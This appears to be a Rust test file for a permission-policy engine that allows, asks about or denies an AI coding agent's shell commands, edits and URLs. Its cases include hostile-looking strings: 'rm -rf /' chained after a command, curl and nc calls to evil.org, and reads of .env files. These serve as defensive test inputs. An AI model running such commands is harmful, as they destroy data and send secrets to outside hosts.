use super::*;
use proptest::prelude::*;

fn policy(decision: PolicyDecision, conditions: Conditions) -> Policy {
    Policy {
        name: PolicyName::parse("p").expect("a name"),
        decision,
        conditions,
        reason: None,
    }
}

fn commands(patterns: &[&str]) -> Conditions {
    Conditions {
        commands: patterns
            .iter()
            .map(|text| CommandPattern::parse(text).expect("a pattern"))
            .collect(),
        ..Conditions::default()
    }
}

fn paths(patterns: &[&str]) -> Conditions {
    Conditions {
        paths: patterns
            .iter()
            .map(|text| PathPattern::parse(text).expect("a pattern"))
            .collect(),
        ..Conditions::default()
    }
}

fn hosts(patterns: &[&str]) -> Conditions {
    Conditions {
        hosts: patterns
            .iter()
            .map(|text| HostPattern::parse(text).expect("a pattern"))
            .collect(),
        ..Conditions::default()
    }
}

fn shell(text: &str) -> Operation {
    Operation {
        tool: "Bash".to_owned(),
        command: Some(text.to_owned()),
        run_directory: Some("/w".to_owned()),
        is_complete: true,
        ..Operation::default()
    }
}

fn edit(stated: &str, real: Option<&str>) -> Operation {
    let path = StatedPath {
        stated: stated.to_owned(),
        real: real.map(str::to_owned),
    };
    Operation {
        tool: "Edit".to_owned(),
        paths: vec![path],
        run_directory: Some("/w".to_owned()),
        is_complete: true,
        ..Operation::default()
    }
}

fn asked(operation: &Operation) -> ApprovalQuery<'_> {
    ApprovalQuery {
        agent: "claude",
        profile: Permissions::Edit,
        risk: None,
        operation,
    }
}

fn allows(conditions: &Conditions, operation: &Operation) -> bool {
    policy(PolicyDecision::Allow, conditions.clone()).covers(&asked(operation))
}

fn denies(conditions: &Conditions, operation: &Operation) -> bool {
    policy(PolicyDecision::Deny, conditions.clone()).covers(&asked(operation))
}

#[test]
fn mismatch_names_the_first_condition_that_does_not_hold() {
    use Mismatch::*;
    let own = |operation: Operation| Operation {
        tool: REQUEST_APPROVAL.to_owned(),
        ..operation
    };
    let tests = commands(&["cargo test", "git status"]);
    let tool = |tool: &str| Conditions {
        tools: vec![Wildcard::new(tool)],
        ..tests.clone()
    };
    let why = |decision, conditions: &Conditions, operation: &Operation| {
        policy(decision, conditions.clone()).mismatch(&asked(operation))
    };
    let allow = |conditions: &Conditions, operation: &Operation| {
        why(PolicyDecision::Allow, conditions, operation)
    };
    let all = Operation {
        command: None,
        ..own(shell(""))
    };
    let cases = [
        (allow(&tests, &shell("cargo test")), None),
        (allow(&tool("Bash"), &shell("cargo test")), None),
        (allow(&tests, &shell("cargo build")), Some(OtherCommand)),
        (
            allow(&tests, &shell("cargo test; rm -rf /")),
            Some(NotSimple),
        ),
        (allow(&tests, &shell("make; x")), Some(OtherCommand)),
        (allow(&tests, &all), Some(NoCommand)),
        (allow(&tests, &own(shell("cargo test"))), Some(OwnWords)),
        (allow(&tool("*"), &own(shell("cargo test"))), Some(OwnWords)),
        (
            allow(&tool(REQUEST_APPROVAL), &own(shell("cargo test"))),
            None,
        ),
        (
            allow(&tool("Edit"), &shell("cargo test")),
            Some(Tool("Edit".to_owned())),
        ),
        (
            allow(
                &Conditions {
                    agents: vec![Wildcard::new("codex")],
                    ..tests.clone()
                },
                &shell("cargo test"),
            ),
            Some(Agent("codex".to_owned())),
        ),
        (
            allow(
                &Conditions {
                    profiles: vec![Permissions::Full],
                    ..tests.clone()
                },
                &shell("cargo test"),
            ),
            Some(Profile("full".to_owned())),
        ),
        (
            allow(
                &Conditions {
                    risks: vec![Wildcard::new("low")],
                    ..tests.clone()
                },
                &shell("cargo test"),
            ),
            Some(Risk("low".to_owned())),
        ),
        (
            allow(
                &tests,
                &Operation {
                    is_complete: false,
                    ..shell("cargo test")
                },
            ),
            Some(Incomplete),
        ),
        (
            allow(
                &tests,
                &Operation {
                    possible_directories: vec!["/x".to_owned()],
                    ..shell("cargo test")
                },
            ),
            Some(Directory),
        ),
        (allow(&tests, &edit("/w/a", Some("/w/a"))), Some(NoCommand)),
        (
            allow(&paths(&["src/**"]), &shell("cargo test")),
            Some(CommandBeside),
        ),
        (
            allow(&paths(&["src/**"]), &edit("/w/src/a", Some("/w/b"))),
            Some(OtherPath),
        ),
        (
            allow(
                &hosts(&["a.org"]),
                &Operation {
                    urls: vec!["https://b.org".to_owned()],
                    command: None,
                    ..shell("")
                },
            ),
            Some(OtherHost),
        ),
        (
            allow(&hosts(&["a.org"]), &edit("/w/a", Some("/w/a"))),
            Some(PathBeside),
        ),
        (
            why(
                PolicyDecision::Deny,
                &commands(&["git push"]),
                &shell("git pull"),
            ),
            Some(OtherCommand),
        ),
        (
            why(
                PolicyDecision::Deny,
                &commands(&["git push"]),
                &shell("git --unknown stash push"),
            ),
            Some(Uncertain),
        ),
        (
            why(
                PolicyDecision::Ask,
                &commands(&["git push"]),
                &shell("git --unknown stash push"),
            ),
            None,
        ),
        (
            why(
                PolicyDecision::Deny,
                &commands(&["git push"]),
                &edit("/w/a", None),
            ),
            Some(NoCommand),
        ),
    ];
    for (at, (found, expected)) in cases.into_iter().enumerate() {
        assert_eq!(found, expected, "case {at}");
    }
}

#[test]
fn passed_policies_have_their_reasons() {
    let operation = shell("git status");
    let named = |name: &str, decision, conditions| Policy {
        name: PolicyName::parse(name).expect("a name"),
        ..policy(decision, conditions)
    };
    let all = [
        named("deny", PolicyDecision::Deny, commands(&["git status"])),
        named("allow", PolicyDecision::Allow, commands(&["git status"])),
        named("other", PolicyDecision::Allow, commands(&["make"])),
    ];
    let passed = |decides: Option<&str>, options| -> Vec<(String, Option<Mismatch>)> {
        let decides = decides.map(|name| PolicyName::parse(name).expect("a name"));
        passed_policies(all.iter(), &asked(&operation), decides.as_ref(), options)
            .into_iter()
            .map(|it| (it.policy.name.to_string(), it.why))
            .collect()
    };
    let other = ("other".to_owned(), Some(Mismatch::OtherCommand));
    assert_eq!(
        passed(Some("deny"), false),
        [("allow".to_owned(), None), other.clone()]
    );
    assert_eq!(
        passed(Some("deny"), true),
        [("allow".to_owned(), Some(Mismatch::Options)), other]
    );
}

#[test]
fn deny_beats_ask_and_ask_beats_allow_in_any_order() {
    use PolicyDecision::{Allow, Ask, Deny};
    let operation = shell("git status");
    let all = [Allow, Ask, Deny].map(|decision| policy(decision, commands(&["git status"])));
    let decided = |order: &[usize]| {
        let policies: Vec<&Policy> = order.iter().map(|at| &all[*at]).collect();
        deciding(policies.iter().copied(), &asked(&operation)).map(|policy| policy.decision)
    };
    for order in [
        [0, 1, 2],
        [0, 2, 1],
        [1, 0, 2],
        [1, 2, 0],
        [2, 0, 1],
        [2, 1, 0],
    ] {
        assert_eq!(decided(&order), Some(Deny));
    }
    assert_eq!(
        (
            decided(&[0, 1]),
            decided(&[1, 0]),
            decided(&[0]),
            decided(&[])
        ),
        (Some(Ask), Some(Ask), Some(Allow), None)
    );
    assert_eq!(all[1].answer(), None);
    assert_eq!(all[0].answer(), Some(Decision::approved()));
    assert!(
        matches!(all[2].answer(), Some(Decision::Denied { reason }) if reason == "policy p does not allow it")
    );
}

#[test]
fn allowed_content_is_all_that_the_operation_does() {
    let status = commands(&["git status"]);
    assert!(allows(&status, &shell("git status")) && !allows(&status, &shell("git status; x")));
    assert!(
        !allows(
            &status,
            &Operation {
                is_complete: false,
                ..shell("git status")
            }
        ),
        "more than is stated"
    );
    assert!(
        !allows(
            &status,
            &Operation {
                urls: vec!["https://x.org/".to_owned()],
                ..shell("git status")
            }
        ),
        "an address too"
    );
    assert!(
        !allows(&status, &edit("/w/a", Some("/w/a")))
            && !allows(&paths(&["**"]), &shell("git status"))
    );
    let both = Conditions {
        hosts: hosts(&["x.org"]).hosts,
        ..status
    };
    assert!(
        allows(
            &both,
            &Operation {
                urls: vec!["https://x.org/".to_owned()],
                ..shell("git status")
            }
        ) && !allows(&both, &shell("git status"))
    );
    let tool = Conditions {
        tools: vec![Wildcard::new("mcp__docs__*")],
        ..Conditions::default()
    };
    let call = |name: &str| Operation {
        tool: name.to_owned(),
        ..Operation::default()
    };
    assert!(
        allows(&tool, &call("mcp__docs__find"))
            && !allows(&tool, &call("mcp__doc"))
            && !allows(&tool, &call("MCP__DOCS__FIND"))
    );
}

#[test]
fn allowed_path_is_the_real_one() {
    let below = paths(&["src/**"]);
    assert!(allows(&below, &edit("/w/src/a", Some("/w/src/a"))));
    assert!(
        !allows(&below, &edit("/w/src/link/a", Some("/etc/a"))),
        "a link that leads out"
    );
    assert!(
        !allows(&below, &edit("/w/src/a", None))
            && !allows(&below, &edit("/w/src/../etc", Some("/w/etc")))
    );
    let two = Operation {
        paths: [
            edit("/w/src/a", Some("/w/src/a")).paths,
            edit("/w/b", Some("/w/b")).paths,
        ]
        .concat(),
        ..edit("", None)
    };
    assert!(!allows(&below, &two), "every path counts");
    assert!(
        denies(&paths(&["**/.env"]), &edit("/w/link", Some("/w/.env")))
            && denies(&paths(&["**/.env"]), &edit("/w/.env", None))
    );
}

#[test]
fn command_runs_in_the_runs_directory() {
    let at = |stated: &str, real: Option<&str>| Operation {
        directory: Some(StatedPath {
            stated: stated.to_owned(),
            real: real.map(str::to_owned),
        }),
        ..shell("scripts/test")
    };
    let relative = commands(&["scripts/test"]);
    assert!(
        allows(&relative, &at("/w", Some("/w")))
            && !allows(&relative, &at("/w/sub", Some("/w/sub")))
    );
    let on_path = |operation: Operation| Operation {
        command: Some("make".to_owned()),
        ..operation
    };
    assert!(allows(
        &commands(&["make"]),
        &on_path(at("/w/sub", Some("/w/sub")))
    ));
    for (stated, real) in [
        ("/w/link", Some("/etc")),
        ("/x", Some("/x")),
        ("/w/sub", None),
        ("/wx", Some("/wx")),
    ] {
        assert!(
            !allows(&commands(&["make"]), &on_path(at(stated, real))),
            "{stated}"
        );
    }
}

#[test]
fn uncertain_directory_allows_nothing_and_denies_in_all() {
    let moved = |text: &str| Operation {
        possible_directories: vec!["/w".to_owned(), "/w/secrets".to_owned()],
        ..shell(text)
    };
    assert!(
        allows(&commands(&["make"]), &shell("make"))
            && !allows(&commands(&["make"]), &moved("make"))
    );
    assert!(
        denies(&paths(&["secrets/**"]), &moved("cat key"))
            && !denies(&paths(&["secrets/**"]), &shell("cat key"))
    );
    assert!(
        denies(&paths(&["key"]), &moved("cat key")),
        "or it is still in the run's directory"
    );
    let known = |operation: Operation| Operation {
        digest: Some("d".to_owned()),
        ..operation
    };
    assert!(known(shell("make")).identity().is_some() && known(moved("make")).identity().is_none());
}

#[test]
fn changes_of_the_directory_are_found() {
    for text in [
        "make",
        "cd /w",
        "cd /w && make",
        "cd '/w'; make -C sub",
        "ls . | head",
        "find . -name x",
        "grep 'a b' -r src",
    ]
    .into_iter()
    .chain([
        "A=1 ls .",
        "A='x y' git add .",
        "if true; then git add .; fi",
        "time -p ls .",
        "ls > out .",
        "cargo test 2>&1 | tail",
        "cargo test 'a$(x)'",
        "grep \"a*\" f",
        "grep 'cd' f && echo 'eval x; source y'",
        "echo \"cd $x\" `true` ",
        "awk '{print $1}' f | sort",
        "git commit -m \"eval the source (cd)\"",
        "eval 'make && ls'",
        "rg 'a(b|c){2}' src; printf '%s\\n' \"$HOME\"",
        "sh -c 'cd /etc; make'",
        "find . -name '*.rs' -newer \\( x",
    ]) {
        if text.contains('`') {
            // Where its end is not certain, every word counts.
            assert!(directory_changes(text, "/w").is_some(), "{text}");
            continue;
        }
        assert_eq!(directory_changes(text, "/w"), None, "{text}");
    }
    for text in [
        "cd src",
        "cd",
        "cd -",
        "cd /w/..",
        "cd /w$X",
        "(cd src)",
        "x && pushd src",
        "! cd src",
        "A=1 command cd src",
        "c\\d src",
        "'cd' src",
        ". ./env",
        "source env",
        "$X src",
        "`x` src",
        "eval \"$x\"",
        "x\ncd src",
        "$(x) y",
        "if true; then . ./env; fi",
        "if . ./env; then x; fi",
        "while ! . ./env; do x; done",
        "x || { . ./env; }",
        "A=1 . ./env",
        "A=\"x y\" B+=2 C[0]=1 . ./env",
        "A=\"x;y\" . ./env",
        "A=`x y` . ./env",
        "command . ./env",
        "command -p . ./env",
        "builtin . ./env",
        "! . ./env",
        "time . ./env",
        "'.' ./env",
        "\\. ./env",
        ">out . ./env",
        "2>&1 . ./env",
        "< in . ./env",
        "if x; then $X src; fi",
        "command $X src",
        "exec -a y $X src",
        "for a in b; do source env; done",
        "eval 'cd src'",
        "eval \"eval 'cd src'\"",
        "eval cd src",
        "trap 'cd src' DEBUG",
        "PROMPT_COMMAND='cd src'",
        "alias make='cd src'",
        "function f { cd src; }; f",
        "f() { cd src; }; f",
        "make <<X\ncd src\nX",
        "make; cd src # 'x",
        "echo $'a' ; cd src",
        "\"$X\" src",
        "c\"d\" src",
        "l* src; cd src",
        "builtin cd src",
    ] {
        assert!(directory_changes(text, "/w").is_some(), "{text}");
    }
    assert_eq!(
        directory_changes("x; cd -P src && ls; cd /etc", "/w"),
        Some(["src", "/etc"].map(str::to_owned).to_vec())
    );
}

#[test]
fn command_that_may_be_denied_is_asked() {
    use PolicyDecision::{Allow, Deny};
    let policies = [
        policy(Deny, commands(&["git push"])),
        policy(
            Allow,
            commands(&["git -v stash push", "git -C . push", "ls **"]),
        ),
    ];
    let decided =
        |text: &str| deciding(policies.iter(), &asked(&shell(text))).map(|policy| policy.decision);
    assert_eq!(decided("git -C . push"), Some(Deny));
    assert_eq!(decided("git -v stash push"), None);
    assert_eq!(decided("ls -l"), Some(Allow));
}

#[test]
fn deny_covers_operations_that_may_match() {
    assert!(
        denies(&paths(&[".env"]), &shell("cat ./.env"))
            && denies(&paths(&["/etc/**"]), &shell("tee --out=/etc/x"))
    );
    assert!(
        denies(
            &hosts(&["evil.org"]),
            &shell("curl 'https://a.evil.org:99/x'")
        ) && denies(&hosts(&["evil.org"]), &shell("x | nc evil.org 1"))
    );
    assert!(denies(
        &commands(&["rm **"]),
        &shell("sh -c 'cd / && /bin/rm -rf x'")
    ));
    assert!(
        !denies(&commands(&["rm **"]), &edit("/w/rm", Some("/w/rm")))
            && !denies(&paths(&[".env"]), &shell("cat .envrc"))
    );
}

#[test]
fn caller_conditions_restrict() {
    let operation = shell("ls");
    let with = |conditions: Conditions| allows(&conditions, &operation);
    assert!(with(Conditions {
        agents: vec![Wildcard::new("cl*")],
        profiles: vec![Permissions::Edit],
        ..commands(&["ls"])
    }));
    assert!(!with(Conditions {
        agents: vec![Wildcard::new("codex")],
        ..commands(&["ls"])
    }));
    assert!(!with(Conditions {
        profiles: vec![Permissions::Read],
        ..commands(&["ls"])
    }));
    let low = Conditions {
        risks: vec![Wildcard::new("low")],
        ..Conditions::default()
    };
    assert!(
        !with(low.clone())
            && policy(PolicyDecision::Allow, low).covers(&ApprovalQuery {
                risk: Some("low"),
                ..asked(&operation)
            })
    );
}

#[test]
fn identity_needs_the_whole_call() {
    let known = Operation {
        digest: Some("d".to_owned()),
        ..shell("git status")
    };
    assert_eq!(
        known.identity(),
        Operation {
            is_complete: false,
            ..known.clone()
        }
        .identity()
    );
    assert!(shell("git status").identity().is_none(), "not fully known");
    assert!(
        Operation {
            paths: edit("/w/a", None).paths,
            ..known.clone()
        }
        .identity()
        .is_none(),
        "a path that cannot be resolved"
    );
    for other in [
        Operation {
            tool: "Shell".to_owned(),
            ..known.clone()
        },
        Operation {
            command: Some("git status ".to_owned()),
            ..known.clone()
        },
        Operation {
            digest: Some("e".to_owned()),
            ..known.clone()
        },
        Operation {
            directory: Some(StatedPath {
                stated: "/x".to_owned(),
                real: Some("/x".to_owned()),
            }),
            ..known.clone()
        },
        Operation {
            urls: vec!["https://x.org/".to_owned()],
            ..known.clone()
        },
        Operation {
            paths: edit("/w/a", Some("/w/a")).paths,
            ..known.clone()
        },
    ] {
        assert!(other.identity() != known.identity(), "{other:?}");
    }
    assert!(
        Operation {
            run_directory: Some("/x".to_owned()),
            ..known.clone()
        }
        .identity()
            != known.identity()
    );
}

fn any_decision() -> impl Strategy<Value = PolicyDecision> {
    proptest::sample::select(PolicyDecision::ALL.to_vec())
}

fn any_conditions() -> impl Strategy<Value = Conditions> {
    let command = proptest::sample::select(vec!["ls **", "git status", "ls *", "rm **"]);
    let path = proptest::sample::select(vec!["**", "src/**", "/etc/**", "*.rs"]);
    (
        proptest::collection::vec(command, 0..2),
        proptest::collection::vec(path, 0..2),
        any::<bool>(),
    )
        .prop_map(|(command, path, by_tool)| Conditions {
            tools: if by_tool {
                vec![Wildcard::new("Bash")]
            } else {
                Vec::new()
            },
            paths: paths(&path).paths,
            ..commands(&command)
        })
}

fn any_operation() -> impl Strategy<Value = Operation> {
    let part = proptest::sample::select(vec![
        "git", "status", "ls", "rm", "-rf", "/etc/x", ";", "&&", "$(", ")", "'", "\"", "`",
        "src/a.rs", "|", ">",
    ]);
    let text = proptest::collection::vec(part, 0..5).prop_map(|parts| parts.join(" "));
    let path = proptest::sample::select(vec!["/w/src/a.rs", "/w/b.rs", "/etc/x", "/w/.git/config"]);
    (
        proptest::option::of(text),
        proptest::collection::vec(path, 0..3),
        any::<bool>(),
    )
        .prop_map(|(command, paths, is_complete)| Operation {
            tool: "Bash".to_owned(),
            command,
            paths: paths
                .into_iter()
                .map(|path| StatedPath {
                    stated: path.to_owned(),
                    real: Some(path.to_owned()),
                })
                .collect(),
            run_directory: Some("/w".to_owned()),
            is_complete,
            ..Operation::default()
        })
}

proptest! {
    /// The same conditions that allow would also deny, so no spelling that is allowed escapes the
    /// rule that denies it.
    #[test]
    fn certainty_implies_possibility(conditions in any_conditions(), operation in any_operation()) {
        if allows(&conditions, &operation) {
            prop_assert!(denies(&conditions, &operation));
        }
    }

    #[test]
    fn order_of_policies_has_no_effect(
        mut policies in proptest::collection::vec((any_decision(), any_conditions()).prop_map(|(decision, conditions)| policy(decision, conditions)), 0..6),
        operation in any_operation(),
    ) {
        let before = deciding(policies.iter(), &asked(&operation)).map(|policy| policy.decision);
        policies.reverse();
        prop_assert_eq!(deciding(policies.iter(), &asked(&operation)).map(|policy| policy.decision), before);
        let strictest = policies.iter().filter(|policy| policy.covers(&asked(&operation))).map(|policy| policy.decision).max();
        prop_assert_eq!(before, strictest);
    }

    /// Content that is restricted is never allowed unless all of it is covered.
    #[test]
    fn restricted_allow_covers_everything(conditions in any_conditions(), operation in any_operation()) {
        if (!conditions.commands.is_empty() || !conditions.paths.is_empty()) && allows(&conditions, &operation) {
            prop_assert!(operation.is_complete);
            prop_assert_eq!(operation.command.is_some(), !conditions.commands.is_empty());
            prop_assert_eq!(operation.paths.is_empty(), conditions.paths.is_empty());
            if let Some(text) = &operation.command {
                prop_assert!(simple_command(text).is_some());
            }
        }
    }
}
